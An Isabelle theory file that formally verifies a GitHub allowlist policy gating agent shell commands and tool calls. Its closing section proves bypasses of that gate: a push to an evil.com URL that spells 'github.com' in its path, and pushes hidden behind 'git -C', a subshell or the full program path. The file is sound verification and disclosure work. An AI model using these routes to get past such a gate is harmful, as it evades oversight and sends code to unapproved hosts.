(* ===== verification/GitHubProperties.thy ===== *)
theory GitHubProperties
  imports GitHub OrchestrationProperties
begin

text \<open>
  Properties of the GitHub policy: what a shell command and a tool call must satisfy to pass, and what the
  extraction of a repository from a URL guarantees about the host, with the commands it misses.
\<close>

section \<open>Verdicts on shell commands\<close>

text \<open>When an operation is admitted and when it is refused outright; otherwise the user is asked.\<close>

definition op_admitted :: "github_cfg \<Rightarrow> shell_op \<Rightarrow> bool" where
  "op_admitted cfg sop \<longleftrightarrow>
     (case so_kind sop of
        OpUnparseable \<Rightarrow> False
      | OpIgnore \<Rightarrow> True
      | OpRead \<Rightarrow> gc_read_all cfg \<or> (\<exists>r. op_repos sop = [r] \<and> r \<in> set (gc_read_repos cfg))
      | OpWrite \<Rightarrow>
          (\<exists>r. op_repos sop = [r] \<and> r \<in> set (gc_write_repos cfg)) \<and>
          (gc_write_branches cfg = [] \<or>
            (if so_branches sop = [] then \<not> so_branch_targeted sop else set (so_branches sop) \<subseteq> set (gc_write_branches cfg))))"

definition op_refused :: "github_cfg \<Rightarrow> shell_op \<Rightarrow> bool" where
  "op_refused cfg sop \<longleftrightarrow>
     (\<exists>r. op_repos sop = [r] \<and>
       (so_kind sop = OpRead \<and> \<not> gc_read_all cfg \<and> r \<notin> set (gc_read_repos cfg) \<or>
        so_kind sop = OpWrite \<and>
          (r \<notin> set (gc_write_repos cfg) \<or>
           gc_write_branches cfg \<noteq> [] \<and> \<not> set (so_branches sop) \<subseteq> set (gc_write_branches cfg))))"

lemma rank_deny [simp]: "result_rank (Some (gh_deny reason)) = 3" "result_rank (Some (gh_ask reason)) = 2"
  by (simp_all add: result_rank_def gh_deny_def gh_ask_def pget_def)

lemma op_repos_cases: "op_repos sop = [] \<or> (\<exists>r. op_repos sop = [r])"
  by (auto simp: op_repos_def split: option.splits)

lemma gate_admitted: "gate_shell_op cfg sop = None \<longleftrightarrow> op_admitted cfg sop"
  using op_repos_cases [of sop]
  by (cases "so_kind sop") (auto simp: gate_shell_op_def op_admitted_def gate_read_repo_def gate_write_def Let_def filter_empty_conv split: if_splits)

lemma gate_refused: "result_rank (gate_shell_op cfg sop) = 3 \<longleftrightarrow> op_refused cfg sop"
  using op_repos_cases [of sop]
  by (cases "so_kind sop") (auto simp: gate_shell_op_def op_refused_def gate_read_repo_def gate_write_def Let_def filter_empty_conv split: if_splits)

lemma gate_gates: "gate_shell_op cfg sop = None \<or> 1 < result_rank (gate_shell_op cfg sop)"
  by (auto simp: gate_shell_op_def gate_read_repo_def gate_write_def Let_def split: shell_kind.splits)

definition verdict_form :: "pydict option \<Rightarrow> bool" where
  "verdict_form r \<longleftrightarrow> r = None \<or> (\<exists>reason. r = Some (gh_deny reason)) \<or> (\<exists>reason. r = Some (gh_ask reason))"

lemma verdict_form_simps [simp]: "verdict_form None" "verdict_form (Some (gh_deny reason))" "verdict_form (Some (gh_ask reason))"
  by (auto simp: verdict_form_def)

lemma gate_forms: "verdict_form (gate_shell_op cfg sop)"
  by (simp add: gate_shell_op_def gate_read_repo_def gate_write_def Let_def split: shell_kind.splits)

lemma github_evaluate_shell:
  assumes "tool \<in> set (gc_shell_tools cfg)" and "str_strip command \<noteq> []"
  shows "github_evaluate cfg (shell_event tool command) = evaluate_shell cfg command"
  using assms by (simp add: github_evaluate_def shell_event_def pget_def Let_def)

lemma github_evaluate_tool:
  assumes "tool \<notin> set (gc_shell_tools cfg)"
  shows "github_evaluate cfg [(''type'', PStr ''tool_call''), (''data'', PDict [(''name'', PStr tool), (''arguments'', PDict args)])] =
    evaluate_mcp cfg tool args"
  using assms by (simp add: github_evaluate_def pget_def Let_def)

abbreviation shell_ops :: "string \<Rightarrow> shell_op list" where
  "shell_ops command \<equiv> classify_shell_command (Suc MAX_SHELL_NESTING) command"

text \<open>
  The GitHub policy's verdict on a shell command is the strictest over the remote operations found in it: it is denied exactly when some
  operation names a repository or branch outside the allowlists, passes exactly when every operation is admitted, and is taken to the
  user otherwise.
\<close>

theorem github_shell_verdict:
  assumes "tool \<in> set (gc_shell_tools cfg)" and "str_strip command \<noteq> []"
  defines "verdict \<equiv> github_evaluate cfg (shell_event tool command)"
  shows "(if \<exists>sop \<in> set (shell_ops command). op_refused cfg sop then \<exists>reason. verdict = Some (gh_deny reason)
     else if \<forall>sop \<in> set (shell_ops command). op_admitted cfg sop then verdict = None
     else \<exists>reason. verdict = Some (gh_ask reason))"
proof -
  have v: "verdict = ghs.strictest_of (gate_shell_op cfg) None (shell_ops command)"
    unfolding verdict_def github_evaluate_shell [OF assms(1,2)] evaluate_shell_def ..
  have "verdict = None \<or> (\<exists>sop \<in> set (shell_ops command). verdict = gate_shell_op cfg sop)"
    unfolding v by (rule ghs.strictest_pick)
  then have form: "verdict = None \<or> (\<exists>reason. verdict = Some (gh_deny reason)) \<or> (\<exists>reason. verdict = Some (gh_ask reason))"
  proof (elim disjE bexE)
    fix sop
    assume "verdict = gate_shell_op cfg sop"
    then show ?thesis using gate_forms [of cfg sop] by (simp add: verdict_form_def)
  qed simp
  have denied: "result_rank verdict = 3 \<longleftrightarrow> (\<exists>sop \<in> set (shell_ops command). op_refused cfg sop)"
    unfolding v ghs.strictest_DENY gate_refused ..
  have passes: "verdict = None \<longleftrightarrow> (\<forall>sop \<in> set (shell_ops command). op_admitted cfg sop)"
    unfolding v gate_admitted [symmetric] by (rule ghs.strictest_None) (rule ballI, rule gate_gates)
  show ?thesis using form denied passes by (auto simp del: classify_shell_command.simps)
qed

definition fx_github :: github_cfg where
  "fx_github = github_policy True None (Some [''octo/hello'']) (Some [''main'']) None None ''no''"

theorem github_shell_verdict_witness:
  "\<exists>reason. github_evaluate fx_github (shell_event ''sys_os_shell'' ''ls & sudo git push https://github.com/octo/other main'') = Some (gh_deny reason)"
proof -
  let ?c = "''ls & sudo git push https://github.com/octo/other main''"
  have "''sys_os_shell'' \<in> set (gc_shell_tools fx_github)" by code_simp
  moreover have "str_strip ?c \<noteq> []" by code_simp
  moreover have "\<exists>sop \<in> set (shell_ops ?c). op_refused fx_github sop"
  proof -
    have "\<exists>sop \<in> set (shell_ops ?c). result_rank (gate_shell_op fx_github sop) = 3" by code_simp
    then show ?thesis unfolding gate_refused .
  qed
  ultimately show ?thesis using github_shell_verdict [of "''sys_os_shell''" fx_github ?c] by (simp del: classify_shell_command.simps)
qed

section \<open>Confinement of writes\<close>

text \<open>A write an event announces: repositories, branches, and whether it lands on a branch.\<close>

inductive event_write :: "github_cfg \<Rightarrow> pydict \<Rightarrow> string set \<Rightarrow> string set \<Rightarrow> bool \<Rightarrow> bool" for cfg where
  shell: "tool \<in> set (gc_shell_tools cfg) \<Longrightarrow> str_strip command \<noteq> [] \<Longrightarrow> sop \<in> set (shell_ops command) \<Longrightarrow> so_kind sop = OpWrite \<Longrightarrow>
    event_write cfg (shell_event tool command) (set (op_repos sop)) (set (so_branches sop)) (so_branch_targeted sop)"
| tool: "tool \<notin> set (gc_shell_tools cfg) \<Longrightarrow> canonical = canonical_tool_name tool (gc_prefixes cfg) \<Longrightarrow>
    classify_mcp_tool canonical (canonical \<noteq> tool) = McpWrite \<Longrightarrow>
    event_write cfg [(''type'', PStr ''tool_call''), (''data'', PDict [(''name'', PStr tool), (''arguments'', PDict args)])]
      (set (extract_repos_from_args 1 args)) (set (extract_branches_from_args 1 args)) (mcp_base canonical \<in> set MCP_BRANCH_WRITE_TOOLS)"

lemma gate_write_passes:
  assumes "gate_write cfg repos branches targeted no_repo no_branch = None"
  shows "repos \<noteq> [] \<and> set repos \<subseteq> set (gc_write_repos cfg) \<and>
    (gc_write_branches cfg \<noteq> [] \<longrightarrow> set branches \<subseteq> set (gc_write_branches cfg) \<and> (targeted \<longrightarrow> branches \<noteq> []))"
  using assms by (auto simp: gate_write_def Let_def filter_empty_conv split: if_splits)

lemma evaluate_mcp_write:
  assumes "classify_mcp_tool (canonical_tool_name name (gc_prefixes cfg)) (canonical_tool_name name (gc_prefixes cfg) \<noteq> name) = McpWrite"
  shows "\<exists>no_repo no_branch. evaluate_mcp cfg name args =
    gate_write cfg (extract_repos_from_args 1 args) (extract_branches_from_args 1 args)
      (mcp_base (canonical_tool_name name (gc_prefixes cfg)) \<in> set MCP_BRANCH_WRITE_TOOLS) no_repo no_branch"
  unfolding evaluate_mcp_def Let_def assms by (simp only: mcp_class.case) (intro exI, rule refl)



section \<open>The host of a repository URL\<close>

lemma repo_from_url_match:
  assumes "x \<in> set (rx_match REPO_URL_PATTERN (rev u, t, []))"
  shows "\<exists>sep owner repo git rest.
    t = ''github.com'' @ sep @ owner @ ''/'' @ repo @ git @ rest \<and> (u = [] \<or> \<not> repo_char (last u)) \<and>
    sep \<noteq> [] \<and> set sep \<subseteq> {CHR '':'', CHR ''/''} \<and> owner \<noteq> [] \<and> list_all repo_char owner \<and> repo \<noteq> [] \<and> list_all repo_char repo \<and>
    (git = [] \<or> git = ''.git'') \<and> (rest = [] \<or> rest = [CHR 10] \<or> hd rest \<in> {CHR ''/'', CHR ''?'', CHR ''#''}) \<and>
    snd (snd x) = [(2, repo), (1, owner)]"
proof -
  let ?sep = "\<lambda>c. c = CHR '':'' \<or> c = CHR ''/''" and ?stop = "\<lambda>c. c = CHR ''/'' \<or> c = CHR ''?'' \<or> c = CHR ''#''"
  obtain s0 s1 s2 s3 s4 s5 s6 where
    s0: "s0 \<in> set (rx_match (Assert (\<lambda>b t. b = [] \<or> \<not> repo_char (hd b))) (rev u, t, []))"
    and s1': "s1 \<in> set (rx_match (rx_str ''github.com'') s0)"
    and s2: "s2 \<in> set (rx_match (rx_plus (Cls ?sep)) s1)" and s3: "s3 \<in> set (rx_match (Grp 1 (rx_plus (Cls repo_char))) s2)"
    and s4': "s4 \<in> set (rx_match (rx_char (CHR ''/'')) s3)"
    and s5: "s5 \<in> set (rx_match (Grp 2 (rx_lazy_plus (Cls repo_char))) s4)"
    and s6: "s6 \<in> set (rx_match (rx_opt (rx_str ''.git'')) s5)"
    and x: "x \<in> set (rx_match (Alt (Cls ?stop) rx_end) s6)"
    using assms unfolding REPO_URL_PATTERN_def rx_seq.simps match_Seq_iff by blast
  have u: "u = [] \<or> \<not> repo_char (last u)" and s0: "s0 = (rev u, t, [])"
    using s0 by (auto simp: hd_rev split: if_splits)
  note s1 = s1' [unfolded s0]
  have s4: "s4 \<in> set (rx_match (rx_str ''/'') s3)" using s4' by simp
  obtain t1 where t1: "t = ''github.com'' @ t1" "s1 = (rev ''github.com'' @ rev u, t1, [])" using match_str [OF s1] by blast
  obtain sep t2 where t2: "sep \<noteq> []" "list_all ?sep sep" "t1 = sep @ t2" "s2 = (rev sep @ rev ''github.com'' @ rev u, t2, [])"
    using match_run [OF s2 [unfolded t1(2) rx_plus_def]] by blast
  obtain owner t3 b3 where t3: "owner \<noteq> []" "list_all repo_char owner" "t2 = owner @ t3" "s3 = (b3, t3, [(1, owner)])"
    using match_group_run [OF s3 [unfolded t2(4) rx_plus_def]] by blast
  obtain t4 b4 where t4: "t3 = ''/'' @ t4" "s4 = (b4, t4, [(1, owner)])" using match_str [OF s4 [unfolded t3(4)]] by blast
  obtain repo t5 b5 where t5: "repo \<noteq> []" "list_all repo_char repo" "t4 = repo @ t5" "s5 = (b5, t5, [(2, repo), (1, owner)])"
    using match_group_run [OF s5 [unfolded t4(2) rx_lazy_plus_def]] by blast
  obtain git t6 b6 where t6: "git = [] \<or> git = ''.git''" "t5 = git @ t6" "s6 = (b6, t6, [(2, repo), (1, owner)])"
    using match_opt_str [OF s6 [unfolded t5(4)]] by blast
  have "(t6 = [] \<or> t6 = [CHR 10] \<or> hd t6 \<in> {CHR ''/'', CHR ''?'', CHR ''#''}) \<and> snd (snd x) = [(2, repo), (1, owner)]"
    using x unfolding t6(3) by (auto simp: rx_end_def rx_rest_def split: list.splits if_splits)
  moreover have "set sep \<subseteq> {CHR '':'', CHR ''/''}" using t2(2) by (auto simp: list_all_iff)
  ultimately show ?thesis using u t1(1) t2(1,3) t3(1-3) t4(1) t5(1-3) t6(1,2) by (intro exI [of _ sep] exI [of _ owner] exI [of _ repo] exI [of _ git] exI [of _ t6]) simp
qed

text \<open>
  A repository is read out of a URL only behind the host name as a whole: the text has the form of a prefix, \<^verbatim>\<open>github.com\<close>, separators, owner, slash and
  name, the prefix does not end in a character of a host label (so a longer host name such as \<^verbatim>\<open>evil-github.com\<close> is not taken for it), and the
  result is the lower-cased owner and name, without a \<^verbatim>\<open>.git\<close> ending or a further path.
\<close>

theorem url_repo_follows_host:
  assumes "repo_from_url v \<noteq> []"
  shows "\<exists>pre sep owner repo git rest.
    v = pre @ ''github.com'' @ sep @ owner @ ''/'' @ repo @ git @ rest \<and> (pre = [] \<or> \<not> repo_char (last pre)) \<and>
    sep \<noteq> [] \<and> set sep \<subseteq> {CHR '':'', CHR ''/''} \<and> owner \<noteq> [] \<and> list_all repo_char owner \<and> repo \<noteq> [] \<and> list_all repo_char repo \<and>
    (git = [] \<or> git = ''.git'') \<and> (rest = [] \<or> rest = [CHR 10] \<or> hd rest \<in> {CHR ''/'', CHR ''?'', CHR ''#''}) \<and>
    repo_from_url v = str_lower (owner @ ''/'' @ repo)"
proof -
  obtain m where m: "rx_search REPO_URL_PATTERN v = Some m" using assms by (auto simp: repo_from_url_def split: option.splits)
  then obtain u t b' t' where ut: "v = u @ t" "(b', t', snd m) \<in> set (rx_match REPO_URL_PATTERN (rev u, t, []))"
    using rx_search_Some by blast
  from repo_from_url_match [OF ut(2), unfolded snd_conv] obtain sep owner repo git rest where
    t: "t = ''github.com'' @ sep @ owner @ ''/'' @ repo @ git @ rest" and "u = [] \<or> \<not> repo_char (last u)"
    "sep \<noteq> []" "set sep \<subseteq> {CHR '':'', CHR ''/''}" "owner \<noteq> []" "list_all repo_char owner" "repo \<noteq> []" "list_all repo_char repo"
    "git = [] \<or> git = ''.git''" "rest = [] \<or> rest = [CHR 10] \<or> hd rest \<in> {CHR ''/'', CHR ''?'', CHR ''#''}"
    and c: "snd m = [(2, repo), (1, owner)]" by blast
  moreover have "repo_from_url v = str_lower (owner @ ''/'' @ repo)"
    using m c by (simp add: repo_from_url_def owner_repo_def rx_group_def)
  moreover have "v = u @ ''github.com'' @ sep @ owner @ ''/'' @ repo @ git @ rest" unfolding ut(1) t ..
  ultimately show ?thesis by blast
qed

theorem url_repo_follows_host_witness:
  "\<exists>pre rest. ''git@github.com:Octo/hello.git'' = pre @ ''github.com'' @ rest \<and> (pre = [] \<or> \<not> repo_char (last pre))"
proof -
  have "repo_from_url ''git@github.com:Octo/hello.git'' \<noteq> []" by code_simp
  from url_repo_follows_host [OF this] show ?thesis by blast
qed

section \<open>What the policy misses\<close>

text \<open>
  The host is not required to be the host of the URL: a path on another server that spells the name is taken for the repository. Options before the
  subcommand, a subshell parenthesis and the full path of the program hide a push.
\<close>

lemma foreign_host_admitted:
  "github_evaluate fx_github (shell_event ''sys_os_shell'' ''git push https://evil.com/github.com/octo/hello main'') = None"
  by code_simp

lemma hidden_pushes_admitted:
  "github_evaluate fx_github (shell_event ''sys_os_shell'' ''git -C . push https://github.com/evil/x main'') = None"
  "github_evaluate fx_github (shell_event ''sys_os_shell'' ''(git push https://github.com/evil/x main)'') = None"
  "github_evaluate fx_github (shell_event ''sys_os_shell'' ''/usr/bin/git push https://github.com/evil/x main'') = None"
  by (code_simp, code_simp, code_simp)

end
